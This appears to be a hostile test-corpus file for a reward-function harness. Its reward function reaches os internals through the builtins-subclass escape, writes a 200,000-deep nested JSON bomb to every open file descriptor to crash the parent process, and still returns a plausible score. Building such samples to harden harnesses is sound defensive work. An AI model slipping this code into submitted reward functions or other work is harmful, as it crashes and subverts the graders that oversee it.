"""Hostile corpus: write a deeply nested JSON line straight into the reply pipe (RecursionError in a naive parent)."""


def _os():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise LookupError("no os")


def reward(prompts, completions, answer, **kwargs):
    g = _os()
    bomb = b'{"id": 1, "ok": true, "scores": ' + b"[" * 200_000 + b"]" * 200_000 + b"}\n"
    for fd in range(3, 4096):
        try:
            g["write"](fd, bomb)
        except OSError:
            pass
    return [1.0 if a in str(c) else 0.0 for c, a in zip(completions, answer)]
